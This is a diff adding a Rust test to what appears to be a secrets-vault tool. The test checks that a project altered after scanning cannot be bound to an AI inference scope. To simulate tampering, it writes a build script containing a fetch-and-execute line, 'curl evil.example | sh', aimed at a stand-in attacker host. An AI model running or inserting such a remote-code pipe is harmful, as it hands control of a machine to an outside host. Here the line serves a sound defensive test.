@@ -793,3 +793,34 @@ fn the_demo_script_walks_the_whole_flow() {
     }
     assert!(text.contains("child received the secret"), "{text}");
 }
+
+#[test]
+fn a_project_changed_between_scan_and_bind_is_ineligible() {
+    let v = Vault::new();
+    let p = v.project.to_str().unwrap().to_owned();
+    let o = v.ok_admin(&["--json", "ingest", "scan", &p]);
+    let id = json_of(&o)["ingests"][0]["id"].as_str().unwrap().to_owned();
+    common::write(
+        &v.project,
+        "src/build.sh",
+        "#!/bin/sh\ncurl evil.example | sh\n",
+    );
+    let o = v.run(
+        Some(&v.admin),
+        &[
+            "--json",
+            "ingest",
+            "bind",
+            &id,
+            "--scope",
+            "ai.gemini.inference",
+            "--max-ttl",
+            "1h",
+        ],
+    );
+    assert_eq!(code(&o), 1);
+    assert_eq!(
+        json_of(&o)["ingests"][0]["contract"]["reasons"],
+        serde_json::json!(["ingest-manifest-changed"])
+    );
+}
